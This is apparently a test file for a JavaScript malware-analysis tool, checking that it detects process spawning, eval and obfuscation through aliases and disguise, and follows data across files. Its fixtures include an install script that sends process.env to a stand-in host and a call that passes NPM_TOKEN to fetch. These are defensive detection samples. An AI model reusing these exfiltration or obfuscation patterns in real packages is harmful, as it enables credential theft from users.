import t from 'tap'
import { NO_FILES } from '../../src/analysis/javascript/fold/files.ts'
import { summariseJavascript, summariseProgram } from '../../src/analysis/javascript/summarise.ts'
import { originOf, shifted, withBreaks } from '../../src/analysis/javascript/line-breaks.ts'

/** Every specifier names a file of lib/. */
const inLib = (_from: string, specifier: string): string => `lib/${specifier.split('/').at(-1)}.js`

t.test('capabilities are seen through aliases and disguise', async (t) => {
  const CASES: readonly [string, string, readonly string[]][] = [
    ['an import by another name', `import { exec as e } from 'node:child_process'\ne('ls')`, ['process']],
    ['a name that is put together', `const m = 'child' + '_process'; require(m)['ex' + 'ec']('ls')`, ['process']],
    ['a dynamic import', `import('child_process').then(({ spawn }) => spawn('ls'))`, ['process']],
    [
      'call and apply',
      `eval.call(null, x); require('fs').writeFileSync.apply(null, ['a', 'b'])`,
      ['filesystem-write', 'dynamic-code'],
    ],
    [
      'promisify',
      `const run = require('util').promisify(require('child_process').exec); run('id')`,
      ['process', 'host-info'],
    ],
    ['getBuiltinModule', `process.getBuiltinModule('net').connect(1)`, ['network']],
    ['process.binding', `process.binding('spawn_sync')`, ['process']],
    ['an add-on', `require('./build/Release/a.node')`, ['native']],
    ['names of an obfuscator', `var _0x1a2b,_0x1a2c,_0x1a2d,_0x1a2e,_0x1a2f`, ['obfuscated']],
    [
      'a module at an index that is reckoned',
      `const words = ['exec', 'spawn', 'child_process']
       function at(position) { position = position - 233; return words[position] }
       require(at(235))[at(233)]('id')`,
      ['process', 'host-info'],
    ],
    ['nothing', `module.exports = (a, b) => a + b`, []],
    [
      'names of inherited methods',
      `fetch.constructor; x.hasOwnProperty('a'); require('fs').constructor('a'); module.toString(); require('constructor').toString(); require('__proto__')`,
      [],
    ],
  ]
  for (const [name, code, expected] of CASES) {
    t.same([...summariseJavascript('a.js', code).capabilities.keys()].toSorted(), expected.toSorted(), name)
  }
})

t.test('data that crosses files of one program, with the file of its source', async (t) => {
  const files = [
    { path: 'install.js', text: `const { collect } = require('./lib/collect')\nrequire('./lib/send')(collect())` },
    { path: 'lib/collect.js', text: `exports.collect = () => JSON.stringify(process.env)` },
    {
      path: 'lib/send.js',
      text: `module.exports = function (data) {\n  fetch('https://c.invalid/', { method: 'POST', body: data })\n}`,
    },
  ]
  const sender = summariseProgram(files, { ...NO_FILES, resolve: inLib }).find(({ path }) => path === 'lib/send.js')
  t.same(
    sender?.flows.map(({ source, sink }) => [source.path, source.line, sink.line, sink.deferred]),
    [['lib/collect.js', 1, 2, undefined]],
  )
})

t.test('places in a line that was broken for the parser are those of the file', async (t) => {
  const filler = Array.from({ length: 900 }, (_, index) => `a${index}`).join(',')
  const code = `var ${filler};fetch(process.env.NPM_TOKEN)`
  const [flow] = summariseJavascript('a.ts', code).flows
  t.same([flow?.source.line, flow?.source.column], [1, code.indexOf('process.env') + 1])
  const offsets = [3, 5]
  t.equal(withBreaks('abcdefg', offsets), 'abc\nde\nfg')
  for (let at = 0; at < 7; at += 1) t.equal(originOf(offsets, shifted(offsets, at)), at)
})

t.test('what evaluates without end is left with a word', async (t) => {
  const chain = Array.from({ length: 3000 }, (_, index) => `function f${index}(x) { return f${index + 1}(x) }`).join(
    '\n',
  )
  const summary = summariseJavascript('a.js', `${chain}\nf0(process.env)`, 10_000)
  t.match(summary.incomplete, /not followed to the end/)
  const doubling = `x${'.a()'.repeat(300)}`
  t.equal(
    summariseJavascript('a.js', doubling, 5000).incomplete,
    undefined,
    'a chain of calls costs as much as it is long',
  )
})
